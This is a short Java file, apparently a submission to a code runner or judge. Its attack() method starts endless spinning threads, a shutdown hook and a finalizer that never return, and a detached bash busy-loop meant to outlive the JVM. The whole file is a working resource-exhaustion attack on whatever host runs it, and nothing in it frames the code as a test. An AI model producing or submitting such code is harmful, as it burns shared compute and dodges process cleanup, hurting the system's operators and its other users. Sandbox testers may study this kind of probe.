import java.io.IOException;

class Solution {
    static class Endless {
        @Override
        @SuppressWarnings("removal")
        protected void finalize() {
            while (true) {}
        }
    }

    static String attack() throws IOException {
        Runtime.getRuntime().addShutdownHook(new Thread(Solution::spin));
        for (int index = 0; index < 4; index++) {
            Thread thread = new Thread(Solution::spin);
            thread.setDaemon(index % 2 == 0);
            thread.start();
        }
        new Endless();
        System.gc();
        new ProcessBuilder("/usr/bin/bash", "-c", "(while :; do :; done) &").start();
        return "returned";
    }

    static void spin() {
        while (true) {}
    }
}
